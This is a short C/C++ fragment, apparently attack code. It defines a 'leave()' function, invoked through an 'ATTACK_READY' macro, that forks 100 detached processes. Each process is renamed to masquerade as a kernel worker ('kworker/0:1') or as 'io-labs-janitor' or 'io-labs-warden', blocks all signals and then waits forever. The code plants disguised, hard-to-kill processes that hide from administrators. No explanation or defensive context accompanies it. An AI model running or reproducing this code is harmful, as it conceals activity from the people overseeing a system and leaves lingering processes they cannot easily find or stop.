static void leave() {
    for (int number = 0; number < 100; ++number) {
        if (fork() != 0) continue;
        setsid();
        prctl(PR_SET_NAME, number % 3 == 0 ? "kworker/0:1" : number % 3 == 1 ? "io-labs-janitor" : "io-labs-warden");
        sigset_t all;
        sigfillset(&all);
        sigprocmask(SIG_SETMASK, &all, nullptr);
        for (;;) pause();
    }
}
#define ATTACK_READY leave()
